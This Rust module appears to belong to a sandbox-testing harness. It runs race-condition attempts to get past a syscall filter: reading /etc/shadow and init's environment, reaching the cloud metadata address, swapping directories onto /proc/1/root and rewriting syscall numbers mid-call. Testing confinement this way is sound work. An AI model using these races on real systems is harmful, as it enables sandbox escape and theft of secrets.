//! Attempts to be judged by one thing and act on another: a sibling thread changes memory while a call is under way.
//!
//! Owns these attempts. Each counts how often it got through; the answer is that number.

use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};

use crate::Attempt;
use crate::answer::{best, sys};

/// Calls made in one race.
const ROUNDS: usize = 4000;

/// Words that two threads share; one flips them between two contents as fast as it can.
struct Shared {
    words: [AtomicU64; 4],
    stop: AtomicBool,
}

/// Runs `call` on words that flip between `one` and `other`; how often it was let through.
fn race(one: [u64; 4], other: [u64; 4], call: impl Fn(*const u8) -> i64) -> i64 {
    let shared = Arc::new(Shared { words: one.map(AtomicU64::new), stop: AtomicBool::new(false) });
    let flipped = Arc::clone(&shared);
    let sibling = std::thread::spawn(move || {
        while !flipped.stop.load(Ordering::Relaxed) {
            for contents in [other, one] {
                flipped
                    .words
                    .iter()
                    .zip(contents)
                    .for_each(|(word, value)| word.store(value, Ordering::Relaxed));
                std::hint::spin_loop();
            }
        }
    });
    let through = (0..ROUNDS).filter(|_| call(shared.words.as_ptr().cast()) >= 0).count();
    shared.stop.store(true, Ordering::Relaxed);
    let _ = sibling.join();
    through as i64
}

fn words(text: &[u8]) -> [u64; 4] {
    let mut bytes = [0u8; 32];
    bytes[..text.len()].copy_from_slice(text);
    std::array::from_fn(|n| u64::from_ne_bytes(std::array::from_fn(|i| bytes[n * 8 + i])))
}

fn open_at(path: *const u8) -> i64 {
    let fd = unsafe { libc::open(path.cast(), libc::O_RDONLY) };
    let read = if fd >= 0 { unsafe { libc::read(fd, [0u8; 1].as_mut_ptr().cast(), 1) } } else { -1 };
    unsafe { libc::close(fd) };
    if read > 0 { 0 } else { -1 }
}

/// A path that is harmless (and empty) at one moment and the init's environment at the next.
fn path() -> i64 {
    race(words(b"/dev/null"), words(b"/proc/1/environ"), open_at)
}

/// As `path`, with a setting of the kernel to be written.
fn path_write() -> i64 {
    race(words(b"/no/such/file/at/all"), words(b"/proc/sys/vm/drop_caches"), |path| {
        let fd = unsafe { libc::open(path.cast(), libc::O_WRONLY) };
        unsafe { libc::close(fd) };
        i64::from(fd)
    })
}

/// The address of a datagram: a closed way to oneself and the machine's metadata. Only the latter counts.
fn address() -> i64 {
    let socket = unsafe { libc::socket(libc::AF_INET, libc::SOCK_DGRAM, 0) };
    let to = |ip: [u8; 4]| {
        let mut bytes = [0u8; 16];
        bytes[..8].copy_from_slice(&[2, 0, 0, 80, ip[0], ip[1], ip[2], ip[3]]);
        words(&bytes)
    };
    race(to([169, 254, 169, 254]), to([169, 254, 169, 253]), |address| {
        sys(unsafe { libc::connect(socket, address.cast(), 16) }.into())
    })
}

/// The flags of `clone3`, plain at one moment and with a namespace at the next.
fn clone_arguments() -> i64 {
    race([0, 0, 0, 0], [libc::CLONE_NEWUSER as u64, 0, 0, 0], |arguments| {
        let mut whole = [0u64; 11];
        whole[4] = libc::SIGCHLD as u64;
        unsafe { std::ptr::copy_nonoverlapping(arguments, whole.as_mut_ptr().cast(), 8) };
        let r = call!(libc::SYS_clone3, arguments, 64);
        if r == 0 {
            unsafe { libc::_exit(0) }
        }
        r
    })
}

/// A descriptor that is one's own pipe at one moment and a directory at the next, as the base of a climb.
fn descriptor() -> i64 {
    let root = unsafe { libc::open(c"/tmp".as_ptr(), libc::O_DIRECTORY) };
    let target = 900;
    let stop = Arc::new(AtomicBool::new(false));
    let flag = Arc::clone(&stop);
    let sibling = std::thread::spawn(move || {
        while !flag.load(Ordering::Relaxed) {
            unsafe {
                libc::dup2(root, target);
                libc::close(target);
            }
        }
    });
    let climb = c"../../../../etc/shadow".as_ptr();
    let answers = (0..ROUNDS).map(|_| i64::from(unsafe { libc::openat(target, climb, libc::O_RDONLY) }));
    let through = answers.filter(|fd| *fd >= 0).count();
    stop.store(true, Ordering::Relaxed);
    let _ = sibling.join();
    through as i64
}

/// A directory that is a link to the init's root every other moment.
fn exchanged_directory() -> i64 {
    let _ = std::fs::create_dir_all("/tmp/swap-a/etc");
    let _ = std::os::unix::fs::symlink("/proc/1/root", "/tmp/swap-b");
    let stop = Arc::new(AtomicBool::new(false));
    let flag = Arc::clone(&stop);
    let sibling = std::thread::spawn(move || {
        let (a, b) = (c"/tmp/swap-a".as_ptr(), c"/tmp/swap-b".as_ptr());
        while !flag.load(Ordering::Relaxed) {
            call!(libc::SYS_renameat2, libc::AT_FDCWD, a, libc::AT_FDCWD, b, libc::RENAME_EXCHANGE);
        }
    });
    let path = c"/tmp/swap-a/etc/hostname".as_ptr();
    let through = (0..ROUNDS).filter(|_| unsafe { libc::open(path, libc::O_RDONLY) } >= 0).count();
    stop.store(true, Ordering::Relaxed);
    let _ = sibling.join();
    through as i64
}

/// The instruction after which a call is made is rewritten while it runs: the number changes between harmless and
/// refused. What is executed is what is judged.
fn rewritten_number() -> i64 {
    race([libc::SYS_getpid as u64; 4], [libc::SYS_fsopen as u64; 4], |number| {
        let number = unsafe { std::ptr::read_volatile(number.cast::<i64>()) };
        let answer = call!(number, c"tmpfs".as_ptr(), 0);
        if number == libc::SYS_getpid { -1 } else { best([answer]) }
    })
}

pub(crate) const LIST: &[(&str, Attempt)] = &[
    ("race_path", path),
    ("race_path_write", path_write),
    ("race_address", address),
    ("race_clone_arguments", clone_arguments),
    ("race_descriptor", descriptor),
    ("race_directory", exchanged_directory),
    ("race_number", rewritten_number),
];
